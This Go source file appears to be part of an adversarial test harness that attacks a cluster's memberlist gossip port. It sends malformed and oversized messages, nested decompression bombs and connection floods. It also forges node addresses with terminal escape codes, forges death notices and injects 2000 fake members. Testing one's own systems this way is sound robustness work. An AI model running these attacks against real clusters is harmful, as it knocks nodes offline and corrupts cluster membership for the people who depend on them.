package stranger

import (
	"bytes"
	"compress/lzw"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"math"
	"slices"
	"strings"
	"time"

	"github.com/hashicorp/go-msgpack/v2/codec"
)

// GossipPort returns the attacks on the gossip port, over TCP and UDP.
func GossipPort() []Attack {
	return []Attack{
		{"gossip-garbage", gossipGarbage},
		{"gossip-counts", gossipCounts},
		{"gossip-bombs", gossipBombs},
		{"gossip-silence", gossipSilence},
		{"gossip-forged-addresses", gossipForgedAddresses},
		{"gossip-forged-deaths", gossipForgedDeaths},
		{"gossip-forged-crowd", gossipForgedCrowd},
	}
}

// The messages of memberlist, by their first byte.
const (
	suspectMessage  byte = 3
	aliveMessage    byte = 4
	deadMessage     byte = 5
	pushPullMessage byte = 6
	compound        byte = 7
	userMessage     byte = 8
	compressed      byte = 9
)

type (
	pushPullHeader struct {
		Nodes, UserStateLen int
		Join                bool
	}
	// nodeState is a node in a push/pull, and with another name an alive message.
	nodeState struct {
		Name        string
		Addr        []byte
		Port        uint16
		Meta        []byte
		Incarnation uint32
		State       int
		Vsn         []uint8
	}
	aliveNode struct {
		Incarnation uint32
		Node        string
		Addr        []byte
		Port        uint16
		Meta        []byte
		Vsn         []uint8
	}
	deadNode struct {
		Incarnation uint32
		Node, From  string
	}
	compressedBytes struct {
		Algo uint8
		Buf  []byte
	}
)

func gossip(kind byte, parts ...any) []byte {
	b := bytes.NewBuffer([]byte{kind})
	encoder := codec.NewEncoder(b, &codec.MsgpackHandle{})
	for _, p := range parts {
		if err := encoder.Encode(p); err != nil {
			panic(err) // cannot fail in memory
		}
	}
	return b.Bytes()
}

func squeezed(words []byte) []byte {
	var b bytes.Buffer
	w := lzw.NewWriter(&b, lzw.LSB, 8)
	if _, err := w.Write(words); err != nil {
		panic(err) // cannot fail in memory
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return gossip(compressed, compressedBytes{Buf: b.Bytes()})
}

// both sends a message over TCP, and as a packet if it fits in one.
func (s *Stranger) both(ctx context.Context, words []byte) error {
	s.tell(ctx, s.Target.Gossip, words, 100*time.Millisecond)
	if len(words) > 60_000 {
		return nil
	}
	return s.throw(ctx, s.Target.Gossip, words)
}

func (s *Stranger) all(ctx context.Context, list ...[]byte) error {
	var errs []error
	for _, words := range list {
		errs = append(errs, s.both(ctx, words))
	}
	return errors.Join(errs...)
}

func gossipGarbage(ctx context.Context, s *Stranger) error {
	var list [][]byte
	for kind := range 16 {
		list = append(list, append([]byte{byte(kind)}, s.noise(100)...), []byte{byte(kind)})
	}
	return s.all(ctx, append(list,
		s.noise(50_000), []byte{244, 255, 'x'}, []byte{compound, 255, 255, 255}, append([]byte{compound, 255}, s.noise(5000)...),
		bytes.Repeat([]byte{compound, 1, 0, 1}, 10_000), []byte{userMessage, 0x81, 0xaa}, []byte("GET / HTTP/1.1\r\n\r\n"),
		gossip(aliveMessage, aliveNode{Node: "x"}), gossip(aliveMessage, aliveNode{Node: "x", Addr: []byte{1}, Vsn: []byte{1}}),
	)...)
}

// gossipCounts announces negative and impossibly large numbers of states and lengths of
// texts. A negative number of states made memberlist 0.5.4 panic.
func gossipCounts(ctx context.Context, s *Stranger) error {
	var list [][]byte
	for _, h := range []pushPullHeader{
		{Nodes: -1}, {UserStateLen: -1}, {Nodes: math.MinInt64}, {Nodes: 1 << 40}, {Nodes: math.MaxInt64}, {UserStateLen: 1 << 40}, {UserStateLen: math.MaxInt64},
		{Nodes: 10_000_000}, {UserStateLen: 1 << 30},
	} {
		list = append(list, gossip(pushPullMessage, h), gossip(userMessage, struct{ UserMsgLen int }{h.UserStateLen}))
	}
	list = append(list, gossip(pushPullMessage, pushPullHeader{Nodes: 1}, nodeState{Name: "x"}), // no versions
		gossip(pushPullMessage, pushPullHeader{Nodes: 1, Join: true}, nodeState{Name: "x", Vsn: []byte{1}}))
	for range 3 {
		if err := s.all(ctx, list...); err != nil {
			return err
		}
	}
	return nil
}

// gossipBombs are small messages that decompress to large ones.
func gossipBombs(ctx context.Context, s *Stranger) error {
	bomb := squeezed(make([]byte, 32<<20))
	for range 10 {
		if err := s.both(ctx, bomb); err != nil {
			return err
		}
	}
	nested := []byte{pushPullMessage}
	for range 50 {
		nested = squeezed(nested)
	}
	return s.both(ctx, nested)
}

func gossipSilence(ctx context.Context, s *Stranger) error {
	s.crowd(ctx, s.Target.Gossip, make([][]byte, 300), nil, crowdTime/2)
	s.crowd(ctx, s.Target.Gossip, slices.Repeat([][]byte{gossip(pushPullMessage, pushPullHeader{Nodes: 5})}, 300), nil, crowdTime/2)
	return nil
}

// listen asks a node for all records, like a node that joins.
func (s *Stranger) listen(ctx context.Context) ([]nodeState, error) {
	heard := s.tell(ctx, s.Target.Gossip, gossip(pushPullMessage, pushPullHeader{}), time.Second)
	nodes, err := readStates(heard)
	if err != nil {
		return nil, fmt.Errorf("ask for the nodes in gossip: %w", err)
	}
	return nodes, nil
}

func readStates(heard []byte) ([]nodeState, error) {
	if len(heard) > 0 && heard[0] == compressed {
		var c compressedBytes
		if err := codec.NewDecoder(bytes.NewReader(heard[1:]), &codec.MsgpackHandle{}).Decode(&c); err != nil {
			return nil, err
		}
		var plain bytes.Buffer
		if _, err := plain.ReadFrom(lzw.NewReader(bytes.NewReader(c.Buf), lzw.LSB, 8)); err != nil {
			return nil, err
		}
		heard = plain.Bytes()
	}
	if len(heard) == 0 || heard[0] != pushPullMessage {
		return nil, fmt.Errorf("the reply begins with %.10q", heard)
	}
	decoder := codec.NewDecoder(bytes.NewReader(heard[1:]), &codec.MsgpackHandle{})
	var h pushPullHeader
	if err := decoder.Decode(&h); err != nil {
		return nil, err
	}
	if h.Nodes < 0 || h.Nodes > 1000 {
		return nil, fmt.Errorf("the reply has %d nodes", h.Nodes)
	}
	nodes := make([]nodeState, h.Nodes)
	for i := range nodes {
		if err := decoder.Decode(&nodes[i]); err != nil {
			return nil, err
		}
	}
	return nodes, nil
}

// A node's record has a version byte, four numbers, and texts. These are the positions of
// texts.
const (
	metaNumbers = 4
	metaTexts   = 6
	nodeIDText  = 0
	addressText = 2
	httpText    = 3
	releaseText = 5
)

// forge changes texts in a node's record.
func forge(meta []byte, texts map[int]string) ([]byte, error) {
	if len(meta) == 0 {
		return nil, errors.New("a node's record is empty")
	}
	out, rest := meta[:1:1], meta[1:]
	for range metaNumbers {
		v, n := binary.Uvarint(rest)
		if n <= 0 {
			return nil, errors.New("a node's record is cut off")
		}
		out, rest = binary.AppendUvarint(out, v), rest[n:]
	}
	for i := range metaTexts {
		l, n := binary.Uvarint(rest)
		if n <= 0 || l > uint64(len(rest)-n) {
			return nil, errors.New("a node's record is cut off")
		}
		words := string(rest[n : n+int(l)])
		rest = rest[n+int(l):]
		if other, ok := texts[i]; ok {
			words = other
		}
		out = append(binary.AppendUvarint(out, uint64(len(words))), words...)
	}
	return append(out, rest...), nil
}

const (
	nowhere = "192.0.2.66:6666" // an address for documentation, which no machine has
	// harmful is the name of a release with control characters for terminals.
	harmful = "v9\x1b[31m\a\x1b]0;owned\a"
)

// say sends a node the state of another one, as a packet and as a join.
func (s *Stranger) say(ctx context.Context, n nodeState) error {
	alive := gossip(aliveMessage, aliveNode{n.Incarnation, n.Name, n.Addr, n.Port, n.Meta, n.Vsn})
	s.tell(ctx, s.Target.Gossip, gossip(pushPullMessage, pushPullHeader{Nodes: 1}, n), 50*time.Millisecond)
	return s.throw(ctx, s.Target.Gossip, alive)
}

// gossipForgedAddresses claims for every node that it has moved to an unused address, also for
// clients, and runs a release with control characters in its name.
func gossipForgedAddresses(ctx context.Context, s *Stranger) error {
	nodes, err := s.listen(ctx)
	if err != nil {
		return err
	}
	for round := range uint32(3) {
		for _, n := range nodes {
			if n.Meta, err = forge(n.Meta, map[int]string{addressText: nowhere, httpText: nowhere, releaseText: harmful}); err != nil {
				return err
			}
			n.Incarnation += 1000 * (round + 1)
			if err := s.say(ctx, n); err != nil {
				return err
			}
			n.Name = n.Name[:strings.LastIndex(n.Name, "@")+1] + "99999999999999999" // a later run
			if err := s.say(ctx, n); err != nil {
				return err
			}
		}
	}
	return nil
}

// gossipForgedDeaths claims that all nodes suspect each other and declare each other dead.
func gossipForgedDeaths(ctx context.Context, s *Stranger) error {
	nodes, err := s.listen(ctx)
	if err != nil {
		return err
	}
	for round := range uint32(20) {
		for i, n := range nodes {
			d := deadNode{Incarnation: n.Incarnation + round, Node: n.Name, From: nodes[(i+1)%len(nodes)].Name}
			if err := s.throw(ctx, s.Target.Gossip, gossip(suspectMessage, d), gossip(deadMessage, d)); err != nil {
				return err
			}
		}
	}
	return nil
}

// newcomers is the number of invented nodes.
const newcomers = 2000

// gossipForgedCrowd invents nodes that all ask to become members.
func gossipForgedCrowd(ctx context.Context, s *Stranger) error {
	nodes, err := s.listen(ctx)
	if err != nil || len(nodes) == 0 {
		return err
	}
	n := nodes[0]
	var packets [][]byte
	for i := range newcomers {
		id := fmt.Sprintf("ghost%d", i)
		meta, err := forge(n.Meta, map[int]string{nodeIDText: id, addressText: nowhere})
		if err != nil {
			return err
		}
		packets = append(packets, gossip(aliveMessage, aliveNode{1, id + ".00000000deadbeef@1", n.Addr, n.Port, meta, n.Vsn}))
	}
	return s.throw(ctx, s.Target.Gossip, packets...)
}
